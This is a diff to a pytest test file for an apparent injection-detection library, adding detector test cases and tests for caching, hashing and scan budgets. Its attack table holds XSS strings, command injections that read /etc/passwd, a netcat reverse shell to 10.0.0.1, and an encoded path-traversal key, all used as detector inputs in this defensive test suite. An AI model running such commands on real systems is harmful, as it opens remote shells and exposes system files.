@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import dataclasses
 import random
+from pathlib import Path
 
 import pytest
 
@@ -52,6 +53,11 @@ ATTACKS = {
         "<details open ontoggle=confirm`1`>",
     ],
     "cmdi": [
+        "nc 4444",  # a trailing number: a port, a delay, a count
+        "curl evil 80",
+        "a; whoami 5",
+        "a; sleep 0.5",
+        "cat file 2",
         "127.0.0.1; cat /etc/passwd",
         "127.0.0.1 && whoami",
         "foo | nc -e /bin/sh 10.0.0.1 4444",
@@ -557,12 +563,89 @@ def test_verdict_cache_is_bounded_keyed_and_keeps_no_text(monkeypatch: pytest.Mo
     assert scan_value({"q": attack}) == first  # evicted, scanned again, same answer
 
 
-def test_verdict_keys_use_a_secret_keyed_hash(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_verdict_keys_use_a_secret_keyed_hash() -> None:
     from faasguard.runtime import detectors
 
-    monkeypatch.delenv("PYTHONHASHSEED", raising=False)
-    assert detectors._digest_function() is hash  # SipHash, random key per process
-    monkeypatch.setenv("PYTHONHASHSEED", "0")  # a known key: use a keyed digest instead
-    digest = detectors._digest_function()
-    one, other = digest("Earl Grey (loose)"), detectors._digest_function()("Earl Grey (loose)")
+    assert detectors._digest_function(secret_hash=True) is hash  # SipHash, random key
+    digest = detectors._digest_function(secret_hash=False)  # PYTHONHASHSEED pins the key
+    one = digest("Earl Grey (loose)")
+    other = detectors._digest_function(secret_hash=False)("Earl Grey (loose)")
     assert isinstance(one, bytes) and len(one) == 16 and one != other  # random key each time
+
+
+def test_a_pinned_hash_seed_is_noticed_at_import() -> None:
+    import subprocess
+    import sys
+
+    code = "from faasguard.runtime import detectors as d; print(d._HASH_KEY_IS_SECRET)"
+    env = {"PYTHONPATH": str(Path(detectors_file()).parents[3])}
+    for seed, expected in (("random", "True"), ("0", "False"), ("1234", "False")):
+        out = subprocess.run([sys.executable, "-c", code], env={**env, "PYTHONHASHSEED": seed},
+                             capture_output=True, text=True, check=True)  # fmt: skip
+        assert out.stdout.strip() == expected, seed
+
+
+def detectors_file() -> str:
+    from faasguard.runtime import detectors
+
+    return detectors.__file__
+
+
+def test_keys_are_checked_even_when_their_siblings_are_identifiers() -> None:
+    """A key that starts with a digit is not an identifier, even if it joins into one."""
+    found = scan_value({"name": "x", "0x2e0x2e0x2fetc0x2fpasswd": 1})
+    assert {d.category for _, d in found} == {"traversal"}
+    assert {path for path, _ in found} == {"0x2e0x2e0x2fetc0x2fpasswd"}
+
+
+def test_values_that_are_not_strings_do_not_use_up_the_string_budget() -> None:
+    attack = "<script>alert(1)</script>"
+    assert scan_value({"q": [0] * 1000 + [attack]})
+    assert scan_value({**{f"k{i}": 0 for i in range(1000)}, "x": attack})
+    many = {"items": ["<b>x</b> y" * 3] * 5000 + [attack]}  # the budget still ends the walk
+    assert not any(path == "items[5000]" for path, _ in scan_value(many))
+
+
+def test_categories_may_be_any_collection_and_str_subclasses_are_read_as_text() -> None:
+    attack = "<script>alert(1)</script>"
+    assert scan_value({"q": attack}, categories={"xss"}) == scan_value(
+        {"q": attack}, categories=frozenset({"xss"})
+    )
+    assert scan(attack, categories=["xss"])
+
+    class Disguised(str):
+        def __str__(self) -> str:
+            return "hello"
+
+    assert scan_value({"k": [Disguised(attack)], "j": Disguised(attack)})
+
+
+def test_verdict_cache_survives_concurrent_eviction(monkeypatch: pytest.MonkeyPatch) -> None:
+    import sys
+    import threading
+
+    from faasguard.runtime import detectors
+
+    monkeypatch.setattr(detectors, "_VERDICTS", {})
+    monkeypatch.setattr(detectors, "_VERDICTS_MAX", 4)
+    errors: list[BaseException] = []
+
+    def work(offset: int) -> None:
+        try:
+            for n in range(300):
+                scan_value({"q": f"Earl Grey tea (loose leaf, {offset + n} g)"})
+        except BaseException as exc:  # any escape is the failure
+            errors.append(exc)
+
+    interval = sys.getswitchinterval()
+    sys.setswitchinterval(1e-6)
+    try:
+        threads = [threading.Thread(target=work, args=(1000 * i,)) for i in range(4)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+    finally:
+        sys.setswitchinterval(interval)
+    assert errors == []
+    assert len(detectors._VERDICTS) <= 4 + len(threads)
